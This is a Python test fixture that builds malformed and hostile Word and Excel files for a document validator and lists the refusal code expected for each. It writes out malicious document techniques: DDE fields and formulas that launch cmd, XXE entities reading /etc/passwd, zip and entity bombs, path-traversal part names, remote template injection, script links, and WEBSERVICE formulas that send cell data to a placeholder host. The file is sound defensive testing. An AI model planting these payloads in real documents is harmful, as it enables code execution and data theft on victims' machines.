"""Hostile and damaged Word and Excel files: kind → (name, how to make it, the code it is refused
with; None: either way).
"""

import struct
import zipfile

from tests.hostile.packages import (
    CENTRAL,
    END,
    LOCAL,
    TEXT,
    R,
    S,
    W,
    docx,
    endless_elements,
    field,
    flipped,
    nested,
    overlapping,
    patched,
    relations,
    replaced,
    sheet_parts,
    typed,
    types,
    word_parts,
    xlsx,
    zipped,
)

ACTIVE, DAMAGED, BOMB = "active_content", "damaged", "bomb"
MEGABYTE = 1024 * 1024
GOOD = docx()


def word(**contents):
    return replaced(word_parts(), **contents)


def document(text: str, encoding: str = "utf-8") -> bytes:
    return word(document=text.encode(encoding))


def entities(body: str) -> bytes:
    return document(f"<!DOCTYPE w [{body}]><w><t>&a;</t></w>")


def linked(kind: str, target: str, mode: str = "External") -> bytes:
    return docx(rels=((kind, target, mode),))


def other_rels(text: str, name: str = "word/_rels/settings.xml.rels") -> bytes:
    return docx(parts={"word/settings.xml": "<s/>", name: text})


def held(kind: str, part: str, content_type: str, content: bytes | str = b"x") -> bytes:
    """A part of its own, declared and referred to."""
    target = part.removeprefix("word/")
    return docx(rels=((kind, target),), more_types=typed(part, content_type), parts={part: content})


def book(kind: str, part: str, content_type: str, content: bytes | str = "<x/>", **more) -> bytes:
    target = part.removeprefix("xl/")
    parts = {part: content, **more.pop("parts", {})}
    return xlsx(rels=((kind, target),), more_types=typed(part, content_type), parts=parts, **more)


def coded(runs: str) -> bytes:
    """A field between whose marks these elements stand, before its result."""
    mark = '<w:fldChar w:fldCharType="{}"/>'
    return docx(
        f"<w:p><w:r>{mark.format('begin')}{runs}{mark.format('separate')}<w:t>x</w:t>{mark.format('end')}</w:r></w:p>"
    )


def nested_field() -> str:
    mark = '<w:fldChar w:fldCharType="{}"/>'
    inner = f"{mark.format('begin')}<w:instrText>QUOTE 68 68 69</w:instrText>{mark.format('end')}"
    return (
        f"<w:p><w:r>{mark.format('begin')}{inner}<w:instrText>"
        f" cmd</w:instrText>{mark.format('end')}</w:r></w:p>"
    )


LINK = f"{S}.externalLink+xml"
DDE = '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
PACKAGES = {
    "no content types": ("a.docx", lambda: word(types=None), DAMAGED),
    "version 9.9 needed": (
        "a.docx",
        lambda: patched(GOOD, (CENTRAL, 6, b"\x63\0"), (LOCAL, 4, b"\x63\0")),
        DAMAGED,
    ),
    "cut after 100 bytes": ("a.docx", lambda: GOOD[:100], ("damaged", "kind_refused")),
    "cut in the middle": ("a.docx", lambda: GOOD[: len(GOOD) // 2], DAMAGED),
    "cut in the directory": ("a.docx", lambda: GOOD[: GOOD.index(CENTRAL) + 60], DAMAGED),
    "last byte missing": ("a.docx", lambda: GOOD[:-1], DAMAGED),
    "one bit flipped": ("a.docx", lambda: flipped(GOOD), DAMAGED),
    "checksum of all parts wrong": (
        "a.docx",
        lambda: patched(GOOD, (CENTRAL, 16, b"abcd")),
        DAMAGED,
    ),
    "declares less than it holds": (
        "a.docx",
        lambda: patched(GOOD, (CENTRAL, 24, struct.pack("<I", 9))),
        DAMAGED,
    ),
    "declares four gigabytes": (
        "a.docx",
        lambda: patched(GOOD, (CENTRAL, 24, b"\xfe\xff\xff\xff")),
        BOMB,
    ),
    "declares to be packed to nothing": (
        "a.docx",
        lambda: patched(GOOD, (CENTRAL, 20, b"\0\0\0\0")),
        DAMAGED,
    ),
    "every part has a password": (
        "a.docx",
        lambda: patched(GOOD, (CENTRAL, 8, b"\1\0"), (LOCAL, 6, b"\1\0")),
        "locked",
    ),
    "unknown way of packing": (
        "a.docx",
        lambda: patched(GOOD, (CENTRAL, 10, b"\x63\0"), (LOCAL, 8, b"\x63\0")),
        DAMAGED,
    ),
    "packed with LZMA": ("a.docx", lambda: zipped(word_parts(), zipfile.ZIP_LZMA), None),
    "packed with bzip2": ("a.docx", lambda: zipped(word_parts(), zipfile.ZIP_BZIP2), None),
    "LZMA that asks for four gigabytes": (
        "a.docx",
        lambda: patched(
            zipped(word_parts(), zipfile.ZIP_LZMA), (b"\x09\x04\x05\0]", 5, b"\xff\xff\xff\xff")
        ),
        None,
    ),
    "a part twice": (
        "a.docx",
        lambda: patched(
            docx(parts={"word/documenT.xmk": "<a/>"}),
            (b"word/documenT.xmk", 0, b"word/document.xml"),
        ),
        DAMAGED,
    ),
    "a part twice in another case": (
        "a.docx",
        lambda: docx(parts={"WORD/Document.xml": "<a/>"}),
        DAMAGED,
    ),
    "a part outside of the folder": (
        "a.docx",
        lambda: docx(parts={"../../etc/passwd": "x"}),
        DAMAGED,
    ),
    "a part outside, Windows' way": (
        "a.docx",
        lambda: docx(parts={"..\\..\\boot.ini": "x"}),
        DAMAGED,
    ),
    "names that are no UTF-8": (
        "a.docx",
        lambda: patched(docx(parts={"wörd/é.xml": "<a/>"}), (b"w\xc3\xb6rd", 1, b"\xff\xfe")),
        None,
    ),
    "days that no calendar has": (
        "a.docx",
        lambda: patched(GOOD, (CENTRAL, 12, b"\xff" * 4), (LOCAL, 10, b"\xff" * 4)),
        None,
    ),
    "offsets beyond the end": (
        "a.docx",
        lambda: patched(GOOD, (CENTRAL, 42, b"\xff\xff\xff\x7f")),
        DAMAGED,
    ),
    "directory far away": (
        "a.docx",
        lambda: patched(GOOD, (END, 16, b"\xff\xff\xff\x7f")),
        DAMAGED,
    ),
    "directory of 65,535 parts": (
        "a.docx",
        lambda: patched(GOOD, (END, 8, b"\xff\xff\xff\xff")),
        None,
    ),
    "entries that share one content": ("a.docx", overlapping, BOMB),
    "two thousand parts": (
        "a.docx",
        lambda: docx(parts={f"word/p{at}.xml": "<a/>" for at in range(2001)}),
        BOMB,
    ),
    "unpacks to 60 MB": ("a.docx", lambda: docx(parts={"word/x.xml": b"0" * 60 * MEGABYTE}), BOMB),
    "unpacks a thousandfold": (
        "a.docx",
        lambda: docx(parts={"word/x.xml": b" " * 5 * MEGABYTE}),
        BOMB,
    ),
    "a zip in a zip in a zip": (
        "a.docx",
        lambda: docx(parts={"word/x.zip": zipped({"y.zip": zipped({"z": b"0" * MEGABYTE})})}),
        ACTIVE,
    ),
    "twelve million elements": ("a.docx", endless_elements, BOMB),
    "a hundred thousand levels": (
        "a.docx",
        lambda: document("<a>" * 100_000 + "</a>" * 100_000),
        BOMB,
    ),
    "a million attributes": (
        "a.docx",
        lambda: document("<a " + " ".join(f'a{at}=""' for at in range(1_000_000)) + "/>"),
        None,
    ),
    "no relations": ("a.docx", lambda: word(rels=None), DAMAGED),
    "relations that are no XML": ("a.docx", lambda: word(rels="<Relationships"), DAMAGED),
    "two main documents": (
        "a.docx",
        lambda: word(
            rels=relations(
                ("officeDocument", "word/document.xml"), ("officeDocument", "word/b.xml")
            )
        ),
        DAMAGED,
    ),
    "main document absent": (
        "a.docx",
        lambda: word(rels=relations(("officeDocument", "word/none.xml"))),
        DAMAGED,
    ),
    "empty document": ("a.docx", lambda: word(document=b""), DAMAGED),
    "document cut short": ("a.docx", lambda: document("<w><w:body>"), DAMAGED),
    "document that is no XML": ("a.docx", lambda: word(document=b"\0\1\2\3"), DAMAGED),
    "NUL in the XML": ("a.docx", lambda: document("<a>\0</a>"), DAMAGED),
    "bad UTF-8": ("a.docx", lambda: word(document=b"<a>\xff\xfe\xfa</a>"), DAMAGED),
    "unknown encoding": (
        "a.docx",
        lambda: document('<?xml version="1.0" encoding="nonsense"?><a/>'),
        DAMAGED,
    ),
    "another encoding than it says": (
        "a.docx",
        lambda: document('<?xml version="1.0" encoding="UTF-8"?><a>é</a>', "utf-16"),
        None,
    ),
    "billion laughs": (
        "a.docx",
        lambda: entities('<!ENTITY b "bbbbbbbb"><!ENTITY a "&b;&b;&b;">'),
        DAMAGED,
    ),
    "quadratic entities": ("a.docx", lambda: entities(f'<!ENTITY a "{"b" * 50_000}">'), DAMAGED),
    "entity from a file": (
        "a.docx",
        lambda: entities('<!ENTITY a SYSTEM "file:///etc/passwd">'),
        DAMAGED,
    ),
    "entity from elsewhere": (
        "a.docx",
        lambda: entities('<!ENTITY % p SYSTEM "http://vi.du/x.dtd"> %p;'),
        DAMAGED,
    ),
    "content types with a document type": (
        "a.docx",
        lambda: word(types='<!DOCTYPE a [<!ENTITY b "c">]><Types/>'),
        DAMAGED,
    ),
}
ACTIVE_WORD = {
    "macros": lambda: held(
        "vbaProject", "word/vbaProject.bin", "application/vnd.ms-office.vbaProject"
    ),
    "macros under another name": lambda: held("vbaProject", "word/anh.png", "image/png"),
    "macros, declared by their ending": lambda: docx(
        more_types='<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>',
        parts={"word/x.bin": b"x"},
    ),
    "type of a document with macros": lambda: docx(
        main_type="application/vnd.ms-word.document.macroEnabled.main+xml"
    ),
    "the same in UTF-16": lambda: word(
        types=types(
            "word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml"
        ).encode("utf-16")
    ),
    "embedded object": lambda: held("oleObject", "word/embeddings/o.bin", f"{W[:-17]}.oleObject"),
    "embedded workbook": lambda: held("package", "word/embeddings/b.xlsx", f"{S}.sheet"),
    "ActiveX": lambda: held(
        "control", "word/activeX/a.xml", "application/vnd.ms-office.activeX+xml", "<a/>"
    ),
    "object in the text": lambda: docx(f'{TEXT}<w:object><o:OLEObject r:id="rId9"/></w:object>'),
    "web page to unfold": lambda: held("aFChunk", "word/a.mht", "message/rfc822"),
    "web page to unfold, in the text": lambda: docx(f'{TEXT}<w:altChunk r:id="rId9"/>'),
    "program as a part": lambda: docx(parts={"word/a.exe": b"MZ"}),
    "part of an unknown kind": lambda: held("image", "word/x.xml", "application/x-shockwave-flash"),
    "relation of an unknown kind": lambda: docx(rels=(("newestThing", "x.xml"),)),
    "DDE": lambda: docx(field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ')),
    "DDE in pieces": lambda: docx(field(" D", "DE", "AUTO cmd")),
    "DDE in one element": lambda: docx('<w:p><w:fldSimple w:instr="dde cmd calc"/></w:p>'),
    "DDE without an end": lambda: docx(
        '<w:r><w:fldChar w:fldCharType="begin"/><w:instrText>DDE x</w:instrText></w:r>'
    ),
    "DDE outside of a field": lambda: docx("<w:r><w:instrText>DDEAUTO x</w:instrText></w:r>"),
    "field whose name a field works out": lambda: docx(nested_field()),
    "DDE as text in a field": lambda: coded("<w:t>DDEAUTO cmd</w:t>"),
    "DDE as deleted text in a field": lambda: coded("<w:delText>DDEAUTO cmd</w:delText>"),
    "DDE as a deleted code": lambda: coded("<w:delInstrText>DDEAUTO cmd</w:delInstrText>"),
    "DDE behind a deleted code": lambda: coded(
        "<w:delInstrText>PAGE </w:delInstrText><w:instrText>DDEAUTO cmd</w:instrText>"
    ),
    "DDE behind a text": lambda: coded("<w:t>PAGE </w:t><w:instrText>DDEAUTO cmd</w:instrText>"),
    "DDE half deleted": lambda: coded(
        "<w:instrText>DDE</w:instrText><w:delInstrText>AUTO cmd</w:delInstrText>"
    ),
    "DDE in code and text": lambda: coded("<w:instrText>DDEA</w:instrText><w:t>UTO cmd</w:t>"),
    "deleted DDE outside of a field": lambda: docx(
        "<w:r><w:delInstrText>DDEAUTO x</w:delInstrText></w:r>"
    ),
    "DDE in the result of a field": lambda: docx(
        field(" PAGE ").replace("<w:t>x</w:t>", "<w:instrText>DDEAUTO x</w:instrText>")
    ),
    "link field to a program": lambda: docx(
        field(' HYPERLINK "file:///C:/Windows/System32/calc.exe" ')
    ),
    "link field to a program behind switches": lambda: docx(
        field(r' HYPERLINK \\n \\o "a" \\h"C:\\a.exe" ')
    ),
    "link field that another works out": lambda: docx(
        field(" HYPERLINK ").replace(
            "</w:instrText></w:r>", f"</w:instrText></w:r>{field(' QUOTE a ')}", 1
        )
    ),
    "link field that another works out behind a place": lambda: docx(
        nested(r' HYPERLINK \l "a" ', " QUOTE a ", " ")
    ),
    "link field that another works out beside the place": lambda: docx(
        nested(" HYPERLINK ", " QUOTE a ", r' \l "a" ')
    ),
    "link field that another goes on with": lambda: docx(
        nested(' HYPERLINK "www.', " QUOTE a ", '" ')
    ),
    "text from elsewhere": lambda: docx(field(' INCLUDETEXT "http://vi.du/a" ')),
    "picture from elsewhere by a field": lambda: docx(
        field(' INCLUDEPICTURE "http://vi.du/a.png" ')
    ),
    "linked object": lambda: docx(field(" LINK Excel.Sheet.8 a.xls ")),
    "query of a database": lambda: docx(field(" DATABASE ")),
    "link field to another machine": lambda: docx(field(' HYPERLINK "\\\\may-la\\a.exe" ')),
    "remote template": lambda: other_rels(
        relations(("attachedTemplate", "http://vi.du/a.dotm", "External"))
    ),
    "remote template, single quotes": lambda: other_rels(
        relations(("attachedTemplate", "http://vi.du/a.dotm", "External")).replace('"', "'")
    ),
    "remote template, another part": lambda: other_rels(
        relations(("attachedTemplate", "http://vi.du/a", "External")), "word/_rels/s.xml.rels"
    ),
    "remote template, UTF-16": lambda: other_rels(
        relations(("attachedTemplate", "http://vi.du/a", "External"))
        .replace('"1.0"', '"1.0" encoding="UTF-16"')
        .encode("utf-16")
    ),
    "remote template, mode in capitals": lambda: linked(
        "attachedTemplate", "http://vi.du/a", "EXTERNAL"
    ),
    "remote template, no mode": lambda: docx(rels=(("attachedTemplate", "http://vi.du/a"),)),
    "remote picture": lambda: linked("image", "http://vi.du/a.png"),
    "remote picture, called inside": lambda: docx(rels=(("image", "http://vi.du/a.png"),)),
    "remote picture, another machine": lambda: docx(rels=(("image", "//may-la/a.png"),)),
    "remote object": lambda: linked("oleObject", "http://vi.du/a"),
    "remote frame": lambda: linked("frame", "http://vi.du/a"),
    "remote subdocument": lambda: linked("subDocument", "http://vi.du/a.docx"),
    "picture of an old drawing from elsewhere": lambda: docx(
        '<v:imagedata src="http://vi.du/a.png"/>'
    ),
    "link that is a script": lambda: linked("hyperlink", "javascript:alert(1)"),
    "link that starts a program": lambda: linked("hyperlink", "ms-msdt:/id"),
    "link to a program": lambda: linked("hyperlink", "file:///C:/Windows/System32/calc.exe"),
    "link to a program beside it": lambda: linked(
        "hyperlink", "..\\..\\Windows\\System32\\calc.exe"
    ),
    "link of a drawn shape to a program": lambda: docx(
        '<v:rect href="file:///C:/Windows/System32/calc.exe"/>'
    ),
    "link in a drawing that is text": lambda: held(
        "image", "word/media/a.svg", "image/svg+xml", '<svg><a href="javascript:alert(1)"/></svg>'
    ),
    "link to another machine": lambda: linked("hyperlink", "\\\\may-la\\a"),
    "letters merged from a database": lambda: docx(
        parts={"word/s.xml": "<w><mailMerge><connectString/></mailMerge></w>"}
    ),
    "add-in from elsewhere": lambda: docx(rels=(("webextensiontaskpanes", "../a.xml"),)),
    "buttons of its own": lambda: docx(rels=(("ui/extensibility", "../customUI.xml"),)),
    "script in a drawing": lambda: held(
        "image", "word/media/a.svg", "image/svg+xml", "<svg><script>alert(1)</script></svg>"
    ),
    "event in a drawing": lambda: held(
        "image", "word/media/a.svg", "image/svg+xml", '<svg onload="alert(1)"/>'
    ),
    "drawing that loads another": lambda: held(
        "image", "word/a.svg", "image/svg+xml", '<svg><use href="http://vi.du/#a"/></svg>'
    ),
}
ASKS = '_xlfn.WEBSERVICE("http://vi.du/"&amp;A1)'
FORMULAS = {
    "the web after a power": f"2^{ASKS}",
    "the web as the end of an area": f"A1:{ASKS}",
    "the web in braces": f"{{1,2}}%{ASKS}",
    "the web after the sign of one value": f"@{ASKS}",
    "the web, a blank before the bracket": '_xlfn.WEBSERVICE ("http://vi.du/")',
    "the web in a condition": f"IF(A1=1,{ASKS},2)",
    "the web handed on as a function": (
        '_xlfn.LET(_xlpm.f,_xleta.WEBSERVICE,_xlpm.f("http://vi.du/"))'
    ),
    "a picture from the web": '1^_xlfn.IMAGE("http://vi.du/a.png")',
    "a translation": 'A1:_xlfn.TRANSLATE(A1,"vi","en")',
    "prices of shares": '_xlfn.STOCKHISTORY("MSFT",1)',
    "a program in the cloud": "_xlfn._xlws.PY(0,1)",
    "data that come by themselves": 'A1%RTD("a.b",,"c")',
    "a cube": 'CUBEVALUE("a","b")',
    "an old macro": 'EVALUATE("A1")',
    "a function of an add-in": "_xludf.DOCSO(A1)",
    "a function that nobody knows": "NEWEST.THING(A1)",
    "wide letters": "\uff37\uff25\uff22SERVICE(A1)",
    "a hidden letter": 'WEBSERVICE\u200b("http://vi.du/")',
    "DDE without a word before": "A1^cmd|'/c calc'!A0",
    "DDE in quotes": "'cmd'|'/c calc'!A0",
    "DDE as if it were a sheet": "'cmd|calc'!A0",
    "a text without an end": '"a',
    "a name without an end": "'a!A1",
    "a bracket without an end": "[1!A1",
    "an address put together": 'INDIRECT("\'http://vi.du/"&amp;A1&amp;"\'#$Sheet1.A1")',
    "an address put together in pieces": (
        'SUM(1,INDIRECT(CONCATENATE("\'htt","p:/","/vi.du/")&amp;A1))'
    ),
    "a file put together": 'INDIRECT ("\'FILE:"&amp;A1)',
    "another machine put together": "INDIRECT(\"'\\\\may-la\\a'!A1\")",
    "a file put together, as LibreOffice writes it": "INDIRECT(\"'C:\\a.ods'#$Sheet1.A1\")",
    "another workbook put together": 'INDIRECT("\'["&amp;A1&amp;"]Một\'!A1")',
    "a formula of Google Sheets": '__xludf.DUMMYFUNCTION("IMPORTXML(""http://vi.du/"",""//a"")")',
    "a formula of Google Sheets behind a cell": (
        '__xludf.DUMMYFUNCTION(A1&amp;"IMPORTXML(""http://vi.du/"")")'
    ),
    "a formula of Google Sheets in pieces": '__xludf.DUMMYFUNCTION("IMPORT"&amp;"DATA(A1)")',
    "a formula of Google Sheets, put together": (
        '__xludf.DUMMYFUNCTION(CONCATENATE("IMPORT","DATA(A1)"))'
    ),
    "a formula of Google Sheets that goes on": '__xludf.DUMMYFUNCTION("SUM(A1)"&amp;A1)',
}


def cell(formula: str) -> bytes:
    return xlsx(f'<row r="3"><c r="B3"><f>{formula}</f></c></row>')


def sheet_with(more: str) -> bytes:
    return replaced(sheet_parts(), sheet=f"<worksheet><sheetData/>{more}</worksheet>")


ELSEWHERE = {
    "a condition of a format": lambda: sheet_with(
        '<conditionalFormatting sqref="A1"><cfRule'
        f' type="expression"><formula>{ASKS}</formula></cfRule></conditionalFormatting>'
    ),
    "a threshold of a format": lambda: sheet_with(
        f"<cfRule><iconSet><cfvo type='formula' val='{ASKS}'/></iconSet></cfRule>"
    ),
    "a check of input": lambda: sheet_with(
        f"<dataValidation sqref='A1'><formula1>{ASKS}</formula1></dataValidation>"
    ),
    "the second value of a check": lambda: sheet_with(
        f"<dataValidation><formula1>1</formula1><formula2>{ASKS}</formula2></dataValidation>"
    ),
    "a later check of input": lambda: sheet_with(
        f"<x:formula1 xmlns:x='urn:x'>\n<x:f>{ASKS}</x:f>\n</x:formula1>"
    ),
    "a name": lambda: xlsx(
        names=f'<definedNames><definedName name="a">{ASKS}</definedName></definedNames>'
    ),
    "a column of a table": lambda: book(
        "table",
        "xl/tables/t.xml",
        f"{S}.table+xml",
        "<table><tableColumn"
        f" name='a'><calculatedColumnFormula>{ASKS}</calculatedColumnFormula>"
        "</tableColumn></table>",
    ),
    "the last row of a table": lambda: book(
        "table",
        "xl/tables/t.xml",
        f"{S}.table+xml",
        "<table><tableColumn"
        f" name='a'><totalsRowFormula>{ASKS}</totalsRowFormula></tableColumn></table>",
    ),
    "a chart": lambda: book(
        "chart", "xl/charts/c.xml", f"{S[:-14]}.drawingml.chart+xml", f"<c><f>{ASKS}</f></c>"
    ),
    "a drawn text": lambda: book(
        "drawing", "xl/d.xml", f"{S[:-14]}.drawing+xml", f"<sp textlink='{ASKS}'/>"
    ),
    "a field of a pivot": lambda: book(
        "pivotCacheDefinition",
        "xl/p.xml",
        f"{S}.pivotCacheDefinition+xml",
        f"<a><cacheField formula='{ASKS}'/></a>",
    ),
    "a button of old": lambda: xlsx(
        more_types=(
            '<Default Extension="vml"'
            ' ContentType="application/vnd.openxmlformats-officedocument.vmlDrawing"/>'
        ),
        parts={"xl/drawings/d.vml": f"<xml><x:FmlaMacro>{ASKS}</x:FmlaMacro></xml>"},
    ),
}
ACTIVE_EXCEL = {
    "Excel 4 macros": lambda: book(
        "xlMacrosheet", "xl/macrosheets/s.xml", "application/vnd.ms-excel.macrosheet+xml"
    ),
    "Excel 4 macros, called a sheet": lambda: book(
        "worksheet", "xl/m.xml", "application/vnd.ms-excel.macrosheet+xml"
    ),
    "old dialog sheet": lambda: book("dialogsheet", "xl/d.xml", f"{S}.dialogsheet+xml"),
    "workbook with macros": lambda: xlsx(
        main_type="application/vnd.ms-excel.sheet.macroEnabled.main+xml"
    ),
    "macro part": lambda: book(
        "vbaProject", "xl/vbaProject.bin", "application/vnd.ms-office.vbaProject", b"x"
    ),
    "macro as a name": lambda: xlsx(
        names='<definedNames><definedName name="Auto_Open" xlm="1">A1</definedName></definedNames>'
    ),
    "DDE link": lambda: book("externalLink", "xl/externalLinks/e.xml", LINK, DDE),
    "linked object in a workbook": lambda: book(
        "externalLink", "xl/e.xml", LINK, '<externalLink><oleLink r="1"/></externalLink>'
    ),
    "data of a connection": lambda: book(
        "connections", "xl/connections.xml", f"{S}.connections+xml"
    ),
    "table from the web": lambda: book("queryTable", "xl/q.xml", f"{S}.queryTable+xml"),
    "data that refreshes itself": lambda: book(
        "volatileDependencies", "xl/v.xml", f"{S}.volatileDependencies+xml"
    ),
    "DDE formula": lambda: xlsx("<row><c><f>cmd|'/c calc'!A0</f></c></row>"),
    "formula that asks the web": lambda: xlsx(
        '<row><c><f>_xlfn.WEBSERVICE("http://vi.du/"&amp;A1)</f></c></row>'
    ),
    "formula that loads a library": lambda: xlsx(
        '<row><c><f>1+CALL("Kernel32","WinExec","JC")</f></c></row>'
    ),
    **{f"formula: {kind}": lambda text=text: cell(text) for kind, text in FORMULAS.items()},
    **{f"web address asked in {kind}": make for kind, make in ELSEWHERE.items()},
    "embedded document in a workbook": lambda: book(
        "package", "xl/embeddings/d.docx", f"{W}.document", b"PK"
    ),
    "form with ActiveX": lambda: book(
        "control", "xl/activeX/a.xml", "application/vnd.ms-office.activeX+xml"
    ),
}
OTHER_BOOK = f'<externalLink xmlns:r="{R}"><externalBook r:id="rId1"/></externalLink>'
EXCEL = {
    "data of another workbook": (
        "a.xlsx",
        lambda: book(
            "externalLink",
            "xl/externalLinks/e1.xml",
            LINK,
            OTHER_BOOK,
            parts={
                "xl/externalLinks/_rels/e1.xml.rels": relations(
                    ("externalLinkPath", "file:///C:/so-lieu.xlsx", "External")
                )
            },
        ),
        ACTIVE,
    ),
    **{
        f"formula that asks another workbook: {formula}": (
            "a.xlsx",
            lambda formula=formula: cell(formula),
            ACTIVE,
        )
        for formula in (
            "SUM([1]Sheet1!A1)",
            "[1]!Ten",
            "'[1]Tháng 1'!A1",
            "'C:\\a\\[b.xlsx]Một'!A1",
            "'http://vi.du/[b.xlsx]Một'!A1",
            "'\\\\may-la\\a\\b.xlsx'!Ten",
        )
    },
    **{
        f"formula that leads to a file: {formula}": (
            "a.xlsx",
            lambda formula=formula: cell(formula),
            ACTIVE,
        )
        for formula in (
            'HYPERLINK("file:///C:/Windows/System32/calc.exe")',
            'HYPERLINK("file:"&amp;"///C:/a.exe")',
            "HYPERLINK(A1)",
        )
    },
    "elements within a formula": ("a.xlsx", lambda: cell("SU<x/>M(1)"), DAMAGED),
    "number that is none": (
        "a.xlsx",
        lambda: xlsx('<row r="x"><c r="1A" s="?"><v>abc</v></c></row>'),
        None,
    ),
    "text number out of range": (
        "a.xlsx",
        lambda: xlsx('<row r="1"><c r="A1" t="s"><v>-7</v></c></row>'),
        None,
    ),
    "row of five thousand digits": (
        "a.xlsx",
        lambda: xlsx(f'<row r="{"9" * 5000}"><c><v>1</v></c></row>'),
        None,
    ),
    "a million rows": (
        "a.xlsx",
        lambda: xlsx("<row><c><v>1</v></c></row>" * 990_000),
        (BOMB, "damaged"),
    ),
    "no sheet part": ("a.xlsx", lambda: replaced(sheet_parts(), sheet=None), None),
    "sheet cut short": (
        "a.xlsx",
        lambda: replaced(sheet_parts(), sheet="<worksheet><sheetData><row"),
        DAMAGED,
    ),
    "Word file called a workbook": ("a.xlsx", docx, "ending_differs"),
    "binary workbook": (
        "a.xlsx",
        lambda: zipped({"[Content_Types].xml": "<Types/>", "xl/workbook.bin": b"x"}),
        "kind_refused",
    ),
    "a bare line as sheet": ("a.xlsx", lambda: replaced(sheet_parts(), sheet="chi bộ"), DAMAGED),
}
KINDS = {
    **PACKAGES,
    **{f"Word: {kind}": ("a.docx", make, ACTIVE) for kind, make in ACTIVE_WORD.items()},
    **{f"Excel: {kind}": ("a.xlsx", make, ACTIVE) for kind, make in ACTIVE_EXCEL.items()},
    **EXCEL,
}
